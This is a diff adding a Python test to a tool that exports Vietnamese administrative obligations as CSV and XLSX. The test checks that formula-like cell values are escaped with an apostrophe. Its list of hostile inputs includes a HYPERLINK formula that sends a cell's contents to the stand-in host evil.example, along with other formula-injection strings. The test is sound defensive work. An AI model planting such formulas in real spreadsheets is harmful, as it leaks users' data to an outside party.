@@ -188,3 +188,26 @@ def test_the_same_document_in_several_files_gives_each_task_once(tasks_db, tmp_p
     assert [t.path for t in export.tasks_for_unit(db, "Sở Nội vụ", today=TODAY)] == ["001-digital.pdf"] * 3
     assert [t.path for t in export.tasks_for_unit(db, "Sở Nội vụ", today=TODAY, dedupe=False)] == [
         "001-digital.pdf", "001-digital.pdf", "002-digital.pdf", "001-digital.pdf"]
+
+
+def test_formula_like_cells_are_neutralised_in_csv_and_xlsx(tasks_db, tmp_path):
+    from openpyxl import load_workbook
+
+    from tests.conftest import copy_db
+
+    path = copy_db(tasks_db, tmp_path / "formula.db")
+    database = sqlite_utils.Database(path)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "+1+2", "-3+4", "@SUM(A1:A9)"]
+    doc = database.execute("select id from documents limit 1").fetchone()[0]
+    database["obligations"].insert_all(
+        {"document_id": doc, "unit": "Phòng Thử", "action": action, "deadline": f"2021-08-0{i + 1}", "page": 1,
+         "deadline_text": "- trước ngày", "criteria": "[]", "recurring": 0} for i, action in enumerate(hostile))
+    csv_path = export.export_unit(database, "Phòng Thử", "csv", tmp_path / "t.csv", today=TODAY).path
+    xlsx_path = export.export_unit(database, "Phòng Thử", "xlsx", tmp_path / "t.xlsx", today=TODAY).path
+    database.close()
+    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines()))[1:]
+    assert [(r[2], r[10]) for r in rows] == [("'" + a, "'- trước ngày") for a in hostile]
+    ws = load_workbook(xlsx_path).active
+    assert [(ws.cell(row=r, column=3).value, ws.cell(row=r, column=3).data_type) for r in range(2, 6)] == [
+        ("'" + a, "s") for a in hostile]
+    assert [ws.cell(row=r, column=2).value for r in range(2, 6)] == [22, 23, 24, 25]   # numbers stay numbers
